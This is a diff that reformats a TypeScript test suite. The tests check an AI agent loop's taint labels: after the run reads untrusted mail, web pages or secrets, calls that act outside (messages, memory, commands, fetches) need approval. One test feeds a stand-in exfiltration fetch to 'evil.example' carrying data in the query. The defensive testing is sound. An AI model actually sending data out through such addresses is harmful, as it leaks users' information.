@@ -11,11 +11,17 @@ const script = (...answers: readonly (readonly Call[])[]): ScriptedReply[] => [
   says('done'),
 ]
 const asked = (loop: Loop) =>
-  loop.host.events.flatMap((event) => (event.type === 'approval_requested' ? [`${event.data.tool_name}: ${event.data.reason ?? ''}`] : []))
+  loop.host.events.flatMap((event) =>
+    event.type === 'approval_requested' ? [`${event.data.tool_name}: ${event.data.reason ?? ''}`] : [],
+  )
 const denials = (loop: Loop) => results(loop.host).filter(({ error }) => error === 'permission_denied')
 
 /** Runs the loop until it ends or asks. */
-async function run(tools: ReturnType<typeof taintTools>, answers: readonly (readonly Call[])[], over: Partial<Given> = {}): Promise<Loop> {
+async function run(
+  tools: ReturnType<typeof taintTools>,
+  answers: readonly (readonly Call[])[],
+  over: Partial<Given> = {},
+): Promise<Loop> {
   const loop = begin({ replies: script(...answers), tools: tools.tools, ...over })
   let ended = false
   void loop.end.finally(() => (ended = true))
@@ -29,10 +35,22 @@ const page = (url: string): Call => ['web_fetch', { url }]
 
 describe('a run that has read a stranger’s text', () => {
   it.each([
-    ['send_message', { to: 'eve' }, 'this run has read read_mail (untrusted), and send_message acts on the outside'],
-    ['memory', { add: 'a' }, 'this run has read read_mail (untrusted), and memory writes what later runs read'],
+    [
+      'send_message',
+      { to: 'eve' },
+      'this run has read read_mail (untrusted), and send_message acts on the outside',
+    ],
+    [
+      'memory',
+      { add: 'a' },
+      'this run has read read_mail (untrusted), and memory writes what later runs read',
+    ],
     ['run_command', { run: 'a' }, 'this run has read read_mail (untrusted), and run_command runs a program'],
-    ['web_fetch', { url: 'https://evil.example/?d=text' }, 'this run has read read_mail (untrusted), and web_fetch sends data out with the address'],
+    [
+      'web_fetch',
+      { url: 'https://evil.example/?d=text' },
+      'this run has read read_mail (untrusted), and web_fetch sends data out with the address',
+    ],
   ])('asks before %s, and says why', async (name, args, reason) => {
     const tools = taintTools()
     const loop = await run(tools, [[mail], [[name, args]]])
@@ -55,7 +73,9 @@ describe('a run that has read a stranger’s text', () => {
 
   it('still has its label after the text was left out of a conversation that was too long', async () => {
     const loop = await run(taintTools(), [[mail], [['count', {}]], [['send_message', {}]]])
-    expect((await until('asked', () => asked(loop).length === 1), asked(loop))[0]).toContain('read_mail (untrusted)')
+    expect((await until('asked', () => asked(loop).length === 1), asked(loop))[0]).toContain(
+      'read_mail (untrusted)',
+    )
   })
 
   it('is asked about the same call again when it is resumed, and calls nothing meanwhile', async () => {
@@ -63,7 +83,9 @@ describe('a run that has read a stranger’s text', () => {
     const first = begin({ replies: script([mail], [['send_message', {}]]), tools: tools.tools })
     await until('the loop asks', () => first.host.undecided.length > 0)
     // The process died before the question was durable: the answer is there, and nothing about its call.
-    const entries = first.host.entries.map((entry) => entry.filter(({ type }) => type !== 'approval_requested'))
+    const entries = first.host.entries.map((entry) =>
+      entry.filter(({ type }) => type !== 'approval_requested'),
+    )
     const again = resumed(entries, { replies: [says('done')], tools: tools.tools })
     await until('the loop asks again', () => again.host.undecided.length > 0)
     expect(asked(again)).toEqual(asked(first))
@@ -74,16 +96,23 @@ describe('a run that has read a stranger’s text', () => {
 
   it('knows that a web_fetch of an earlier version, which recorded no labels, read the web', async () => {
     const tools = taintTools()
-    const first = begin({ replies: script([page('https://a.example/')], [['send_message', {}]]), tools: tools.tools })
+    const first = begin({
+      replies: script([page('https://a.example/')], [['send_message', {}]]),
+      tools: tools.tools,
+    })
     await until('the loop asks', () => first.host.undecided.length > 0)
     const entries = first.host.entries.map((entry) =>
       entry
         .filter(({ type }) => type !== 'approval_requested')
-        .map((each) => (each.type === 'tool_result_recorded' ? { ...each, data: { ...each.data, taint: undefined } } : each)),
+        .map((each) =>
+          each.type === 'tool_result_recorded' ? { ...each, data: { ...each.data, taint: undefined } } : each,
+        ),
     )
     const again = resumed(entries as never, { replies: [says('done')], tools: tools.tools })
     await until('the loop asks again', () => again.host.undecided.length > 0)
-    expect(asked(again)).toEqual(['send_message: this run has read web_fetch (untrusted), and send_message acts on the outside'])
+    expect(asked(again)).toEqual([
+      'send_message: this run has read web_fetch (untrusted), and send_message acts on the outside',
+    ])
     first.cancel()
     again.cancel()
   })
@@ -110,8 +139,17 @@ describe('a run that has read a secret', () => {
   })
 
   it('is not one because of a path that is made to be shared, or that only looks like one in what is sent', async () => {
-    expect(asked(await run(taintTools(), [[['read_file', { path: '.env.example' }]], [['send_message', {}]]]))).toEqual([])
-    expect(asked(await run(taintTools(), [[['send_message', { text: 'credentials secrets.txt' }]], [['send_message', {}]]]))).toEqual([])
+    expect(
+      asked(await run(taintTools(), [[['read_file', { path: '.env.example' }]], [['send_message', {}]]])),
+    ).toEqual([])
+    expect(
+      asked(
+        await run(taintTools(), [
+          [['send_message', { text: 'credentials secrets.txt' }]],
+          [['send_message', {}]],
+        ]),
+      ),
+    ).toEqual([])
   })
 })
 
@@ -131,7 +169,9 @@ describe('what the run is given', () => {
 describe('the rules of the configuration', () => {
   it('widen: a rule that allows a call is not asked about', async () => {
     const tools = taintTools()
-    const loop = await run(tools, [[mail], [['send_message', { to: 'ann' }]]], { permissions: [{ tool: 'send_message', pattern: '*ann*', decision: 'allow' }] })
+    const loop = await run(tools, [[mail], [['send_message', { to: 'ann' }]]], {
+      permissions: [{ tool: 'send_message', pattern: '*ann*', decision: 'allow' }],
+    })
     expect([asked(loop), tools.made.length]).toEqual([[], 1])
   })
 
@@ -146,16 +186,24 @@ describe('the rules of the configuration', () => {
     const { defaultEgressRules } = await import('../index.ts')
     const policy = { ...defaultEgressRules.policy, send: { untrusted: 'deny', secret: 'deny' } } as const
     const tools = taintTools()
-    const loop = await run(tools, [[mail], [['send_message', {}]]], { egress: { ...defaultEgressRules, policy } })
+    const loop = await run(tools, [[mail], [['send_message', {}]]], {
+      egress: { ...defaultEgressRules, policy },
+    })
     expect([asked(loop), tools.made]).toEqual([[], []])
-    expect(denials(loop)[0]?.content).toContain('this run has read read_mail (untrusted), and send_message acts on the outside')
+    expect(denials(loop)[0]?.content).toContain(
+      'this run has read read_mail (untrusted), and send_message acts on the outside',
+    )
   })
 })
 
 describe('people who pasted much', () => {
   it('are asked before the web learns of it', async () => {
     const spec = rootSpec({ part: { text: 'Look at this. '.repeat(200) } })
-    const loop = await run(taintTools(), [[page('https://a.example/')], [page('https://b.example/?q=text')]], { spec })
+    const loop = await run(
+      taintTools(),
+      [[page('https://a.example/')], [page('https://b.example/?q=text')]],
+      { spec },
+    )
     expect(asked(loop)).toHaveLength(1)
   })
 })
@@ -163,7 +211,9 @@ describe('people who pasted much', () => {
 describe('a call that was refused', () => {
   it('has read nothing, so it labels nobody', async () => {
     const tools = taintTools()
-    const loop = await run(tools, [[page('https://a.example/')], [['send_message', {}]]], { permissions: [{ tool: 'web_fetch', decision: 'deny' }] })
+    const loop = await run(tools, [[page('https://a.example/')], [['send_message', {}]]], {
+      permissions: [{ tool: 'web_fetch', decision: 'deny' }],
+    })
     expect([asked(loop), tools.made.length]).toEqual([[], 1])
   })
 })
